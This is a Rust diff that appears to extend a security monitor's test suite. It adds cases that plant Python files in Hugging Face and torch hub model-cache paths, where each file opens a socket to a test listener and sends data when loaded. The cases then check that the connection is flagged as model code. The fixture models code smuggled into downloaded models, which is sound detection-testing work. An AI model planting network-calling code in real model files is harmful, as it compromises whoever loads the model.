@@ -87,6 +87,36 @@ pub fn cases() -> Vec<Case> {
         std::fs::create_dir_all(&blobs)?;
         store(room, &blobs.join("0123456789abcdef".repeat(4)))
     }));
+    // The code that a model brings along is a program of the hub's, whether or not weights follow. It is read and closed
+    // before it runs.
+    for (name, place) in [
+        ("transformers_modules", "transformers_modules/org/name/0f3a/modeling_x.py"),
+        ("torch_hub", "torch/hub/org_name_main/hubconf.py"),
+    ] {
+        cases.push(Case::shared(format!("ways_in::code_in_{name}"), move |room| {
+            let listener = room.tcp(PUBLIC4)?;
+            let code = room.dir.join(place);
+            std::fs::create_dir_all(code.parent().unwrap_or(&room.dir))?;
+            let (host, port) = (listener.host(), listener.port());
+            std::fs::write(
+                &code,
+                format!(
+                    "import socket\nwith socket.create_connection(('{host}', {port})) as peer:\n  peer.sendall(b'x')\n"
+                ),
+            )?;
+            room.run_python(
+                "import importlib.util\nspec = importlib.util.spec_from_file_location('x', MODEL)\n\
+                 spec.loader.exec_module(importlib.util.module_from_spec(spec))\n",
+                &code,
+            )?;
+            listener.was_reached()?;
+            Ok(move |alerts: &Alerts| {
+                let acts = alerts.kind("connect").port(port);
+                let alert = acts.last("what the code did")?.is("/model/class", "code")?;
+                alert.is("/model/path", String::from_utf8_lossy(code.as_os_str().as_bytes()).as_ref()).map(|_| ())
+            })
+        }));
+    }
     cases.push(Case::shared("ways_in::memfd", |room| {
         let listener = room.tcp(PUBLIC4)?;
         let content = payload(room, "content.txt", &listener)?;
